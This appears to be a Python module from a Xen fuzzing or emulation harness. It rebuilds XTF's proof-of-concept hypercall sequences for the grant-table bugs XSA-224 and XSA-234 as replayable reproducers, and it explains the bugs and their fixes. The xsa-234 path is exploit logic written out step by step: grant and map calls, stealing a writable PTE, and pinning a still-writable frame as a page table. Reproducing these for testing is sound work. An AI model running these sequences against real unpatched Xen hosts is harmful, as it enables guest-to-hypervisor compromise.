"""XTF's proofs of concept of the grant-table XSAs as call lists (``xtf_poc``): the calls
of ``tests/xsa-224`` and ``tests/xsa-234`` (andyhhp/xtf), issued by a fuzz guest set up
as every fuzzed guest is, written as reproducers in configs/xsa-224.yaml and
configs/xsa-234.yaml.

XTF's guest grants its own frames to itself. Its ``frame[]`` is a 4 KiB frame the guest
maps writable (here: the fifth small frame after the eight the guest maps read-only, at
the next L1 slot); XTF's ``KB(4)`` and ``KB(8)`` host addresses are two empty slots of
the same L1 table. The last call pins ``frame[]`` as an L1 table, XTF's verdict: 0 on a
vulnerable Xen (one writable type reference too few), -EINVAL on a fixed one.
"""

from __future__ import annotations

from ..guest import DIRECTMAP_BASE
from ..mem import PAGE_SHIFT
from ..xen import (GNTMAP_device_map, GNTMAP_host_map, GNTMAP_readonly, _PAGE_ACCESSED,
                   _PAGE_DIRTY, _PAGE_PRESENT, _PAGE_RW, make_pte)
from ._generator import Fuzzer
from ._setup import Setup

__all__ = ["XTF_TESTS", "xtf_poc", "xtf_config"]

#: the XTF tests replayed, by name
XTF_TESTS = ("xsa-224", "xsa-234")

_L1_VA = DIRECTMAP_BASE + (1 << 30)          # the fuzz guest's 4 KiB region (one L1 table)


def xtf_poc(name: str, version: str = "4.8", faithful: bool = True) -> tuple[Setup, list[dict]]:
    """(setup, calls) of XTF's test ``name`` (one of :data:`XTF_TESTS`): a guest's set-up,
    then the test's calls."""
    if name not in XTF_TESTS:
        raise ValueError(f"unknown XTF test {name!r}; choose from {', '.join(XTF_TESTS)}")
    setup = Setup(version=version, faithful=faithful, domains=1, superpages=2, grants=False)
    f = Fuzzer(setup, 0, light=True, tolerate=lambda v: True)
    g = f.new_guest()
    k, n = g.kernel, g.name
    frame = k.mfn(setup.small_gfn + 8)
    va = _L1_VA + (8 << PAGE_SHIFT)                    # frame[]'s own mapping
    kb4, kb8 = _L1_VA + (16 << PAGE_SHIFT), _L1_VA + (17 << PAGE_SHIFT)
    rw = _PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED | _PAGE_DIRTY
    ro = _PAGE_PRESENT | _PAGE_ACCESSED | _PAGE_DIRTY
    mark = len(f.log)
    # xtf_init_grant_table(1)
    f.step({"op": "grant_table_op", "domain": n, "cmd": "setup_table", "grants": [[1]]})
    f.step({"op": "update_va_mapping", "domain": n, "va": va, "val": make_pte(frame, rw)})

    def gnt(cmd: str, *grants) -> None:
        op = {"op": "grant_table_op", "domain": n, "cmd": cmd, "grants": [list(x) for x in grants]}
        if cmd == "map_grant_ref":
            op["target"] = n
        f.step(op)

    if name == "xsa-224":
        f.step({"op": "grant_access", "domain": n, "ref": 8, "grantee": n, "frame": frame})
        gnt("map_grant_ref", (kb4, GNTMAP_host_map | GNTMAP_device_map, 8))
        gnt("unmap_grant_ref", (kb4, 0, 0))                 # the host mapping alone
        gnt("unmap_grant_ref", (0, frame << PAGE_SHIFT, 0))  # the device mapping alone
    else:
        frame2 = k.mfn(setup.small_gfn + 9)
        # remap frame1 read-only: its writable type reference goes
        f.step({"op": "update_va_mapping", "domain": n, "va": va, "val": make_pte(frame, ro)})
        f.step({"op": "grant_access", "domain": n, "ref": 8, "grantee": n, "frame": frame})
        f.step({"op": "grant_access", "domain": n, "ref": 9, "grantee": n, "frame": frame2})
        gnt("map_grant_ref", (kb4, GNTMAP_host_map, 8))                        # handle 0
        gnt("map_grant_ref", (kb8, GNTMAP_host_map | GNTMAP_readonly, 9))      # handle 1
        gnt("unmap_and_replace", (kb8, kb4, 1))        # steal frame1's writable grant PTE
        f.step({"op": "update_va_mapping", "domain": n, "va": kb4, "val": make_pte(frame, ro)})
        gnt("unmap_grant_ref", (kb4, 0, 0))            # vulnerable: succeeds
    f.step({"op": "mmuext_op", "domain": n, "ops": [["pin_l1_table", frame]]})
    assert mark > 0
    return setup, f.log


#: what each replay shows, on top of its config
_ABOUT = {
    "xsa-224": """XSA-224 (CVE-2017-10920), XTF's tests/xsa-224 replayed: a writable grant of the guest's
own frame mapped host and device at once, unmapped in two calls (host, then device);
Xen 4.1-4.8's __gnttab_unmap_common_complete drops the device mapping's references at
the first unmap too: one writable type reference too many. The last call is XTF's
verdict: MMUEXT_PIN_L1_TABLE of the frame is 0 on a vulnerable Xen (the frame, still
mapped writable, becomes a page table), -EINVAL on a fixed one.
faithful: true reproduces the bug (the auditor stops the replay at the first unmap);
with faithful: false (Xen's fix, 4a79c29f67 in 4.7.3 and later) it replays clean and
the pin is -EINVAL.""",
    "xsa-234": """XSA-234 (CVE-2017-14319), XTF's tests/xsa-234 replayed: frame1 mapped read-only by the
guest, granted writable at KB(4), frame2 read-only at KB(8); unmap_and_replace of frame2
steals frame1's writable grant PTE into KB(8); KB(4) is pointed at frame1 read-only
again, and the unmap of frame1's grant succeeds on Xen 4.1-4.8, which checks only the
PTE's frame: it drops the grant's writable type reference while the stolen writable PTE
lives on. The last call is XTF's verdict: MMUEXT_PIN_L1_TABLE of frame1 is 0 on a
vulnerable Xen, -EINVAL on a fixed one (the unmap then fails, GNTST_general_error).
faithful: true reproduces the bug (the auditor stops the replay at that unmap);
with faithful: false (Xen's fix, 16b1414de9: PRESENT and RW checked too) it replays
clean and the pin is -EINVAL.""",
}


def xtf_config(name: str) -> str:
    """configs/NAME.yaml: :func:`xtf_poc` (4.8, faithful) as a reproducer, each call's rc
    written beside it."""
    from ._ops import execute
    from ._reproducer import to_script_yaml
    setup, ops = xtf_poc(name)
    m, doms = setup.machine(), {"dom0": 0}
    rcs = [execute(m, doms, op).rc for op in ops]
    return to_script_yaml(setup, ops, rcs=rcs, comment=_ABOUT[name])
